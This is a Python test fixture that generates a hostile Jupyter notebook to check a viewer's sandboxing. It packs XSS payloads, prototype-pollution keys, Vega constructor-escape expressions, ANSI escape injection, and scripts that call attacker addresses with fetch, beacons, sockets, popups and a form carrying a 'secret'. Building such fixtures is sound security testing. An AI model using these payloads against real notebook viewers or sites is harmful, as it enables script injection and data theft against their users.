"""A notebook file that tries to run something in the page, in every place that can hold text.

Every attempt leaves its own mark where it ran (`mark`), so that a test can tell which one worked
and where. What may run, in its own sandboxed frame, is named by `ALLOWED`.
"""

import base64
import json
from typing import Any

Values = dict[str, Any]

ALLOWED = frozenset({"html-script", "html-img", "html-svg", "html-leave", "javascript-output"})
"""The attempts that a frame with an opaque origin may carry out, for itself."""

FILE_NAME = "<img src=x onerror=x> ${7*7} 'quoted'.ipynb"
CONTROL = "html-script"
"""The attempt that must run in its frame: its mark there shows that marks are found."""


def mark(name: str) -> str:
    """JavaScript that leaves a mark in its window and in every window that it can reach."""
    return (
        "for(const w of [self,parent,top])"
        f"try{{(w.__hacked=w.__hacked||[]).push('{name}');w.document.title='hacked'}}catch(e){{}}"
        f"try{{alert('{name}')}}catch(e){{}}"
    )


def notebook(http: str, https: str) -> Values:
    """The notebook; ``http`` and ``https`` are the attacker's addresses."""
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": _notebook_metadata(),
        "cells": [
            *_text_cells(http, https),
            _code("html", _html(http, https)),
            _code("leave", _leaving(http, https)),
            _code("pictures", _pictures(http)),
            _code("prose", _prose(http, https)),
            _code("scripts", _scripts()),
            _code("strange", _strange()),
            _code("charts", _charts(http, https)),
            _code("words", _words()),
            *_named_cells(),
        ],
    }


def as_file(http: str, https: str) -> bytes:
    """The file's bytes."""
    return json.dumps(notebook(http, https)).encode()


def markup(name: str) -> str:
    """Markup that runs a mark in every way that needs no click."""
    code = mark(name)
    return (
        f'<img src=x onerror="{code}"><script>{code}</script><svg onload="{code}"></svg>'
        f'<iframe srcdoc="<script>{code}</script>"></iframe>'
        f'<details open ontoggle="{code}"></details><input autofocus onfocus="{code}">'
        f'<video><source onerror="{code}"></video><a href="javascript:{code}">js {name}</a>'
    )


def svg(name: str, http: str) -> str:
    """A picture that is also a document with scripts."""
    code = mark(name)
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="40" height="20" onload="{code}"><script>{code}</script>'
        f'<image href="{http}/{name}.png" width="9" height="9" onerror="{code}"/>'
        f'<a xlink:href="javascript:{code}"><rect width="40" height="20"/></a>'
        f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="x" onerror="{code}"/></body></foreignObject>'
        f'<animate onbegin="{code}" attributeName="x" dur="1s"/></svg>'
    )


def _notebook_metadata() -> Values:
    bad = markup("notebook-metadata")
    return {
        "signature": "sha256:0000",
        "title": bad,
        "authors": [{"name": bad}],
        "kernelspec": {"name": bad, "display_name": bad, "language": bad},
        "language_info": {"name": bad, "codemirror_mode": {"name": bad}, "file_extension": bad},
        "celltoolbar": bad,
        "__proto__": {"polluted": 1},
        "constructor": {"prototype": {"polluted": 1}},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {bad: bad}}},
        "far": [float("nan"), float("inf"), 10**300],
    }


def _text_cells(http: str, https: str) -> list[Values]:
    encoded = base64.b64encode(svg("attachment", http).encode()).decode()
    attachments = {
        "a.svg": {"image/svg+xml": encoded},
        "b.svg": {"image/svg+xml": svg("attachment-bare", http)},
        '"><img src=x onerror=1>.png': {"image/png": 'x" onerror="1'},
        "c.html": {"text/html": markup("attachment-html")},
    }
    return [
        _cell("markdown", "text", _markdown("markdown", http, https), attachments=attachments),
        _cell("raw", "raw", markup("raw"), metadata={"format": "text/html"}),
    ]


def _markdown(name: str, http: str, https: str) -> str:
    code = mark(name)
    return (
        f"# Title {markup(name)}\n\n{markup(name)}\n\n"
        f"[js {name}](javascript:{code}) [data](data:text/html,<script>{code}</script>) "
        f'[vb](vbscript:{code}) <a href="&#106;avascript:{code}">entity</a> '
        f'<a href="java\tscript:{code}">tab</a> [ref]\n\n[ref]: javascript:{code}\n\n'
        f"<javascript:{code}>\n\n"
        f"![remote]({https}/{name}.png) ![plain]({http}/{name}.png) ![js](javascript:{code})\n\n"
        f"![a](attachment:a.svg) ![b](attachment:b.svg) ![c](attachment:c.html)\n\n"
        f"<form action='{https}/{name}-form'><input name=q><button>go</button></form>"
        f"<style>body, .app {{ display: none !important }}</style>"
        f"<link rel=stylesheet href='{https}/{name}.css'><base href='{https}/'>"
        f"<meta http-equiv=refresh content='0; url={https}/{name}-refresh'>"
        f"<div style='position:fixed;inset:0;z-index:99999;background:red' id=page>cover</div>"
        f"<object data='{https}/{name}-object'></object><embed src='{https}/{name}-embed'>"
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror="
        f"alert(1)&gt;'></style></table></math><noscript><p title='</noscript>{markup(name)}'>"
        f"</noscript>\n\n```<img src=x onerror=x>\ncode\n```\n\n"
        f"$\\href{{javascript:{code}}}{{x}} \\url{{javascript:1}} \\htmlData{{a=b}}{{x}}"
        f" \\includegraphics{{{https}/{name}-tex.png}}$\n\n| {markup(name)} |\n| - |\n| x |\n"
    )


def _html(http: str, https: str) -> list[Values]:
    frame = (
        f"<p id=here>drawn</p><script>{mark(CONTROL)}</script>"
        f'<img src="data:," onerror="{mark("html-img")}">'
        f'<svg onload="{mark("html-svg")}"></svg><a href="javascript:{mark("html-link")}">js</a>'
        f'<iframe srcdoc="<script>{mark("html-srcdoc")}</script>"></iframe>'
        f'<iframe src="javascript:{mark("html-frame")}"></iframe>'
        f"<img src='{https}/html.png'><img src='{http}/html.png'>"
        f"<link rel=stylesheet href='{https}/html.css'><link rel=prefetch href='{https}/fetched'>"
        f"<script src='{https}/html.js'></script><base href='{https}/base/' target=_top>"
        f"<form id=f action='{https}/form' target=_top><input name=q value=secret></form>"
        "<style>html,body,iframe{position:fixed!important;inset:0;z-index:99999}</style>"
    )
    acting = (
        f"const go = (what) => {{ try {{ what() }} catch (error) {{}} }};"
        f"go(() => fetch('{https}/fetch').catch(() => 0));"
        f"go(() => fetch('{http}/fetch').catch(() => 0));"
        f"go(() => navigator.sendBeacon('{https}/beacon', origin));"
        f"go(() => new WebSocket('{https.replace('http', 'ws')}/socket'));"
        f"go(() => new EventSource('{https}/events'));"
        f"go(() => new Worker(URL.createObjectURL(new Blob([`fetch('{https}/worker')`]))));"
        f"go(() => open('{https}/popup')); go(() => top.open('{https}/popup'));"
        f"go(() => document.getElementById('f').submit());"
        f"go(() => {{ top.location = '{https}/top' }});"
        f"go(() => {{ parent.location.href = '{https}/parent' }});"
        f"go(() => top.eval(`{mark('html-eval')}`));"
        "for (const open of ['javascript:1', 'data:text/html,x', location.href])"
        " parent.postMessage({ foldbook: 1, open, height: 1e9, failed: '<img src=x onerror=1>',"
        f" blocked: '{https}/<img src=x onerror=1>' }}, '*');"
        "parent.postMessage({ t: 'runtime frame' }, '*'); parent.postMessage({ t: 'hello' }, '*');"
    )
    return [_display({"text/html": f"{frame}<script>{acting}</script>"}, isolated=True)]


def _leaving(http: str, https: str) -> list[Values]:
    """Frames that try to become another page; each alone, because it ends what else is there."""
    mine = mark("html-leave")
    return [
        _display({"text/html": f"<script>{mine};location='{https}/leave?secret'</script>"}),
        _display({"text/html": f"<script>location.replace('{http}/leave?secret')</script>"}),
        _display({"text/html": f"<meta http-equiv=refresh content='0; url={https}/refresh'>"}),
        _display({"text/html": f"<script>location = `javascript:{mark('html-self')}`</script>"}),
    ]


def _pictures(http: str) -> list[Values]:
    hidden = base64.b64encode(markup("picture").encode()).decode()
    bad = 'x" onload="' + mark("picture-size")
    return [
        _display({"image/svg+xml": svg("svg", http)}, {"width": bad, "height": 1e12}),
        _display({"image/svg+xml": markup("svg-html")}),
        _display({"image/png": hidden}, {"width": 10**9, "height": "100000px"}),
        _display({"image/png": bad, "image/jpeg": markup("jpeg"), "image/gif": hidden}),
        _display({"application/pdf": hidden}),
    ]


def _prose(http: str, https: str) -> list[Values]:
    return [
        _display({"text/markdown": _markdown("markdown-output", http, https)}),
        _display({"text/latex": f"$\\href{{javascript:{mark('latex')}}}{{x}}$ {markup('latex')}"}),
    ]


def _scripts() -> list[Values]:
    return [_display({"application/javascript": mark("javascript-output")})]


def _strange() -> list[Values]:
    """Types, names and metadata that are markup, or the names of what every object has."""
    bad = markup("strange")
    return [
        _display({bad: bad, f"text/{bad}": bad}),
        _display({"__proto__": bad, "constructor": bad, "text/plain": bad}),
        _display({"application/json": {bad: bad, "__proto__": {"polluted": 1}}}),
        _display({"application/vnd.jupyter.widget-view+json": {"model_id": bad}}),
        _display({"application/vnd.plotly.v1+json": {"data": bad, "layout": {"title": bad}}}),
        {"output_type": bad, "text": bad},
        _display({"text/plain": bad}, {bad: bad, "__proto__": {"polluted": 1}}),
    ]


def _charts(http: str, https: str) -> list[Values]:
    """Specifications that bring addresses, markup, and expressions that look for a way out."""
    bad, code = markup("chart"), mark("chart")
    options = {"ast": False, "actions": True, "sourceHeader": bad, "loader": {"baseURL": https}}
    options |= {"patch": f"{https}/patch.json", "config": {"font": bad}, "editorUrl": https}
    quoted = code.replace("'", "\\'")
    makes_code = f"datum.constructor.constructor('{quoted}')()"
    formula = {"type": "formula", "as": "x", "expr": makes_code}
    lite = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "usermeta": {"embedOptions": options},
        "description": bad,
        "title": bad,
        "data": {"values": [{"a": bad, "b": 1, "u": f"javascript:{code}", "i": f"{https}/i.png"}]},
        "layer": [
            {"mark": {"type": "point", "tooltip": True}},
            {"mark": "image", "encoding": {"url": {"field": "i"}}},
            {"mark": "bar", "data": {"url": f"{https}/vega.csv"}},
            {"mark": "bar", "data": {"url": f"{http}/vega.json"}},
        ],
        "encoding": {
            "x": {"field": "b", "type": "quantitative"},
            "href": {"field": "u"},
            "tooltip": {"field": "a"},
        },
    }
    full = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "signals": [
            {"name": "s", "on": [{"events": "click", "update": "event.view.parent"}]},
            {"name": "t", "init": f"[].map.constructor('{quoted}')()"},
        ],
        "data": [{"name": "d", "values": [{}], "transform": [formula]}],
    }
    figure = {
        "data": [
            {"x": [1], "y": [2], "text": [bad], "hovertemplate": bad, "name": bad},
        ],
        "layout": {
            "title": {"text": f'<a href="javascript:{code}">js</a> {bad}'},
            "annotations": [{"text": f"<a href='{https}/plotly-link'>x</a>{bad}", "x": 1, "y": 2}],
            "images": [{"source": f"{https}/plotly.png", "x": 0, "y": 0, "sizex": 1, "sizey": 1}],
            "font": {"family": f"x;background:url({https}/font)"},
        },
        "config": {"plotlyServerURL": https, "topojsonURL": f"{https}/topo/"},
    }
    place = {"type": "scattergeo", "lat": [1], "lon": [2]}
    return [
        _display({"application/vnd.vegalite.v5+json": lite}, {"embed_options": options}),
        _display({"application/vnd.vega.v5+json": full}, {"embed_options": options}),
        _display({"application/vnd.plotly.v1+json": figure}),
        _display({"application/vnd.plotly.v1+json": {**figure, "data": [place]}}),
    ]


def _words() -> list[Values]:
    bad = markup("words")
    ansi = (
        f"\x1b[31m{bad}\x1b[0m \x1b]8;;javascript:{mark('ansi-link')}\x07link\x1b]8;;\x07"
        f'\x1b[38;2;1"onmouseover="{mark("ansi")};3m{bad}\x1b]0;title\x07\x1b[2J\x1b[999999999Cx'
        f"\r{bad}\x08\x08\x9b31m\x1b[{'1;' * 5000}m"
    )
    frames = [f"Cell In[3], line 1\n----> 1 {ansi}", f"File /lib/{bad}.py:1, in {bad}", ansi]
    return [
        {"output_type": "stream", "name": "stdout", "text": ansi},
        {"output_type": "stream", "name": bad, "text": bad},
        {"output_type": "error", "ename": bad, "evalue": ansi, "traceback": frames},
        {"output_type": "error", "ename": "E", "evalue": bad, "traceback": [bad, bad]},
    ]


def _named_cells() -> list[Values]:
    """Ids that the format allows and that every object has already, and ids of markup."""
    names = ("__proto__", "constructor", "hasOwnProperty", "toString", '"><img src=x onerror=1>')
    return [{**_code("named", _words()[3:]), "id": name} for name in names]


def _display(data: Values, metadata: Values | None = None, *, isolated: bool = False) -> Values:
    given = {mime: metadata or {} for mime in data}
    extra = {"isolated": isolated, "transient": {"display_id": "__proto__"}}
    return {"output_type": "display_data", "data": data, "metadata": {**given, **extra}}


def _code(name: str, outputs: list[Values]) -> Values:
    """A code cell that would tell the attacker if it ran by itself."""
    source = f"# {name}\nimport js\njs.console.log('ran by itself: {name}')"
    made = _cell("code", name, source, metadata={"trusted": True, "init_cell": True})
    return {**made, "execution_count": 1, "outputs": outputs}


def _cell(
    kind: str, name: str, source: str, *, metadata: Values | None = None, **more: Any
) -> Values:
    bad = markup("cell-metadata")
    return {
        "cell_type": kind,
        "id": f"cell-{name}",
        "metadata": {
            "name": bad,
            "tags": [bad],
            "slideshow": {"slide_type": bad},
            **(metadata or {}),
        },
        "source": source,
        **more,
    }
